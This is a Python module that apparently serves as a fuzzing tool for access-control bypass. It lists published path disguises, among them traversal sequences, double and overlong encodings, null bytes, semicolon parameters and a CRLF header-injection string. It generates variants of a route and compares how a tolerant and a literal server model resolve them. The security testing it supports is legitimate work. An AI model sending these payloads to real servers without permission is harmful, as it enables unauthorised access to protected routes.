"""Published disguises of paths, and two models of servers that read paths differently."""

import re
import unicodedata
from collections.abc import Callable, Iterator
from urllib.parse import unquote_to_bytes

# Placed before a path, after it, and instead of the slashes within.
BEFORE = [
    b"/", b"/.", b"/./", b"//", b"///", b"/%2e", b"/;", b"/;x", b"/.;", b"/%2f", b"/%5c", b"/\\",
    b"\\", b"/x/..", b"/x/../", b"/x//..", b"/x/./..", b"/..", b"/../", b"/%2e%2e", b"/%2E%2E",
    b"/x/%2e%2e", b"/x/.%2e", b"/x/%2e.", b"/x/..;", b"/x/..;a=b", b"/x/..%3b", b"/x;/..",
    b"/;/..", b"/x/..%00", b"/x/..%0d", b"/x/..%09", b"/x/..%20", b"/x\\..", b"/x%5c..",
    b"/x%2f..", b"/x/..%2f", b"/x/..%5c", b"/%252e%252e", b"/x/%252e%252e", b"/x/%25252e%25252e",
    b"/x/..%252f", b"/x/%%32%65%%32%65", b"/x/%25%32%65%25%32%65", b"/x/%c0%ae%c0%ae",
    b"/x/%c0%2e%c0%2e", b"/x/%e0%80%ae%e0%80%ae", b"/x/%f0%80%80%ae%f0%80%80%ae",
    b"/x/%uff0e%uff0e", b"/x/%u002e%u002e", b"/x/%ef%bc%8e%ef%bc%8e", b"/x/%e2%80%a5",
    b"/%c0%af", b"/%ef%bc%8f", b"/%20", b"/%09", b"/%00", b"/\x01", b"/\xef\xbc\x8f", b"/x?/..",
    b"http://other.test", b"HTTPS://other.test:8443", b"http://user@other.test",
    b"http://user:word@other.test", b"http://other.test/x/..", b"http://other.test\\",
    b"http://other.test#", b"http://other.test%2f", b"http:", b"http:/", b"http://",
    b"ftp://other.test", b"//other.test", b"/http://other.test", b"other.test", b"*",
]  # fmt: skip
AFTER = [
    b"/", b"//", b"/.", b"/./", b"/..", b"?", b"?x=/../y", b"?x;%2f..\\", b"??", b"#", b"#x", b";",
    b";x", b";x=y/", b"/;", b"/;x", b"%3b", b"%3Bx=y", b"%3f", b"%3Fx", b"%23", b"%26", b".", b"..",
    b"...", b"./", b"/...", b"%2e", b"%2e%2e", b"/%2e", b"/%2e%2e", b"/%2e/", b"%20", b"%20/",
    b"%20%20", b".%20", b"%09", b"%00", b"%00.json", b"%0a", b"%0d%0aX-Plan:pro", b"%7f", b"%c2%85",
    b"%c2%a0", b"%e2%80%8b", b"%2f", b"%2F", b"%5c", b"\\", b"\\..", b"%2500", b"%252f", b"%253f",
    b"%253b", b"%25", b"%", b"%2", b"%zz", b"%ff", b"%c0%80", b"%u0000", b"~", b"*", b"&x=y", b"!",
    b".json", b".html", b"/x/..", b"/x/../", b"/x/%2e%2e", b"/x/..;", b"/x/..;/", b"/..;/",
    b"/x//..", b"/x/..%2f", b"/x/..%5c", b"/x\\..\\", b"/x/../.", b"%ef%bc%8f",
    b"%ef%bc%9b", b"%ef%bc%9f", b"%ef%bc%8e", b"\t", b"\x00", b"\x85", b"\xa0",
]  # fmt: skip
WITHIN = [
    b"//", b"/./", b"/.//./", b"/x/../", b"/x/./../", b"/%2e/", b"/x/%2e%2e/", b"/;/", b";/",
    b";x/", b";x=y;z/", b"/;x/", b"%3b/", b"%2f", b"%2F", b"/%2f", b"%5c", b"\\", b"/\\", b"\\/",
    b"%252f", b"%255c", b"%25%32%66", b"%c0%af", b"%c1%9c", b"%e0%80%af", b"%ef%bc%8f",
    b"%ef%bc%bc", b"%e2%88%95", b"%u2215", b"%u002f", b"%20/", b"/%20/", b"./", b".%20/", b"/.;/",
    b"/...;/", b" /", b"%00/", b"%09/", b"/x/..;/", b"/x\\..\\", b"%3f/", b"%23/",
]  # fmt: skip
# From another route's path to this one; "~" is as many steps up as needed.
ACROSS = [
    (b"/..", b""), (b"/%2e%2e", b""), (b"/.%2e", b""), (b"/..;", b""), (b"/..;x", b""),
    (b"\\..", b""), (b"%2f..", b""), (b"/..%5c", b""), (b"/x/../..", b""), (b"//..", b""),
    (b"/;/..", b""), (b"/./..", b""), (b"/%252e%252e", b""), (b"/%c0%ae%c0%ae", b""),
    (b"", b"?"), (b"", b"#"), (b"", b"%3f"), (b"", b"%00"), (b"", b";"),
    (b"", b"%20HTTP/1.1%0d%0a"),
]  # fmt: skip


def letters(path: bytes) -> Iterator[bytes]:
    """The last letter of the path, and all letters, in all disguises."""
    start, last, end = re.fullmatch(rb"(.*)([a-z])([^a-z]*)", path).groups()  # type: ignore[union-attr]
    code = last[0]
    for form in (
        b"%%%02x" % code, b"%%%02X" % code, b"%%25%02x" % code, b"%%2525%02x" % code,
        b"%%u00%02x" % code, b"%%c1%%%02x" % (code & 0x3F | 0x80), b"%%c1%%%02x" % code,
        b"%%e0%%81%%%02x" % (code & 0x3F | 0x80), b"%%ef%%bd%%%02x" % (code + 0x20),
        last.upper(), last + b"%cc%81", last + b"%08",
    ):  # fmt: skip
        yield start + form + end
    yield path.upper()
    yield b"".join(b"/" if byte == 0x2F else b"%%%02x" % byte for byte in path)
    yield b"".join(b"/" if byte == 0x2F else b"%%25%02x" % byte for byte in path)


def disguises(path: bytes, others: list[bytes]) -> Iterator[bytes]:
    yield path
    yield from (before + path for before in BEFORE)
    yield from (path + after for after in AFTER)
    first, *rest = path.split(b"/")[1:]
    for between in WITHIN:
        yield b"/" + first + b"".join(between + segment for segment in rest)
    yield from letters(path)
    for other in others:
        for up, between in ACROSS:
            yield other + up * (other.count(b"/") if up else 0) + between + path


def _overlong(found: re.Match[bytes]) -> bytes:
    lead, follower = found[0]
    return bytes([(lead & 3) << 6 | follower & 63])


def tolerant(target: bytes) -> str:
    """The path for the most tolerant server: decoded, folded, stripped, merged and resolved."""
    path = re.sub(rb"^https?://[^/]*", b"", target, flags=re.IGNORECASE)
    path = path.partition(b"?")[0].partition(b"#")[0]
    while (decoded := unquote_to_bytes(path)) != path:
        path = decoded
    path = re.sub(rb"[\xc0\xc1][\x80-\xbf]", _overlong, path)
    text = unicodedata.normalize("NFKC", path.decode("utf-8", "replace"))
    text = re.split("[?#\x00]", text)[0].replace("\\", "/")
    kept: list[str] = []
    for segment in text.split("/"):
        name = segment.partition(";")[0].rstrip(" ")
        if name == "..":
            kept[-1:] = []
        elif name.rstrip(" ."):
            kept.append(name.rstrip(" ."))
    return "/" + "/".join(kept)


def literal(target: bytes) -> str:
    """The path as a framework reads it that decodes once and keeps dot segments."""
    path = re.sub(rb"^https?://[^/]*", b"", target, flags=re.IGNORECASE).partition(b"?")[0]
    text = unquote_to_bytes(path).decode("utf-8", "replace")
    return "/" + "/".join(segment for segment in text.split("/") if segment not in ("", "."))


SERVERS: list[Callable[[bytes], str]] = [tolerant, literal]
